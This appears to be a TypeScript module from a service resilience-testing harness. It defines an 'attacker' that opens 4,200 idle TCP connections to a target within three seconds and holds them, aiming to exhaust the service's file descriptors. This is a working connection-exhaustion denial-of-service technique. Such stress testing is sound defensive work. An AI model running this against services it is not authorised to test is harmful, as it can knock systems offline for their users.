import type { Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import type { Attacker } from '../target.ts'
import { newAnswers, open, pace, stillOpen } from './sockets.ts'

const CONNECTIONS = 4_200
const OPENING_SECONDS = 3

/** More connections than the service may have files, on which nothing is ever sent. No credentials. */
export const silentConnections: Attacker = async ({ url, seconds }) => {
  const answers = newAnswers()
  const sockets: Socket[] = []
  await pace(CONNECTIONS / OPENING_SECONDS, OPENING_SECONDS, () => {
    if (sockets.length < CONNECTIONS) sockets.push(open(url, answers))
  })
  await sleep((seconds - OPENING_SECONDS) * 1_000)
  return `${sockets.length.toLocaleString('en')} silent connections: ${stillOpen(sockets).toLocaleString('en')} left`
}
